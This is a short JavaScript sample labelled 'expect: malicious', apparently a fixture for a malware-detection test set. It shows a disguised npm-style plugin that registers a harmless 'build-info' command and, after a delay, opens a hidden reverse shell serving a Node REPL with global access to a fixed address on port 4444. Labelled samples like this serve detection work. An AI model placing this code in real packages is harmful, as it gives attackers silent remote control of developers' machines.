// expect: malicious
// source: Node reverse shells in npm packages (2021-2025) that hand the attacker a JavaScript REPL instead of sh: a
// dev-tool "relay" connects to a fixed address and serves repl.start over the socket, from a function the plugin's
// exported hook starts
const net = require('net');
const repl = require('repl');
function relay() {
  const sock = net.connect(4444, '203.0.113.77', () => {
    repl.start({ input: sock, output: sock, prompt: '', terminal: false, useGlobal: true });
  });
  sock.on('error', () => {});
}
module.exports = function plugin(api) {
  api.registerCommand('build-info', () => {});
  setTimeout(relay, 5000).unref();
};
